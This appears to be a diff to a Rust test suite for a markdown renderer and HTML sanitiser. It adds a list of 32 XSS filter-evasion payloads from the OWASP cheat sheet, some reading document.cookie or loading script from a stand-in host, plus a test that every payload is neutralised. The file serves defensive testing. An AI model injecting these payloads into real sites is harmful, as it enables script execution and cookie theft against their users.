@@ -101,6 +101,51 @@ fn nothing_typed_becomes_part_of_the_page() {
     }
 }
 
+/// From the OWASP cheat sheet on filter evasion.
+const OWASP: [&str; 32] = [
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
+    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
+    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
+    "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
+    "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
+    "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
+    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    "<SCRIPT SRC=//xss.example/.j>",
+    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/s.html\"></OBJECT>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\"></EMBED>",
+    "<svg><math><mtext><a href=\"data:text/html,<script>alert(1)</script>\">x</a></mtext></math></svg>",
+];
+
+#[test]
+fn nothing_of_the_known_tricks_gets_through_typed_or_imported() {
+    for attack in OWASP {
+        only_ours(attack);
+        is_ours(&sanitise(attack), attack);
+        is_ours(&sanitise(&format!("<p>a {attack} b</p>")), attack);
+    }
+}
+
 #[test]
 fn html_is_shown_as_it_was_typed() {
     let html = render("<script>alert(1)</script>");
@@ -156,6 +201,11 @@ fn the_longest_and_deepest_comments_are_set_flat_and_small() {
 /// Renders, and checks that every tag and attribute is one of ours.
 fn only_ours(markdown: &str) -> String {
     let html = render(markdown);
+    is_ours(&html, markdown);
+    html
+}
+
+fn is_ours(html: &str, source: &str) {
     let ours = [
         "p",
         "em",
@@ -182,12 +232,12 @@ fn only_ours(markdown: &str) -> String {
         assert!(
             ours.contains(&name)
                 || name == "a"
+                || name == "a rel=\"nofollow ugc noopener\""
                 || name.starts_with("ol start=\"")
                 || link().is_some(),
-            "<{tag}> of {markdown}"
+            "<{tag}> of {source}"
         );
     }
-    html
 }
 
 proptest! {
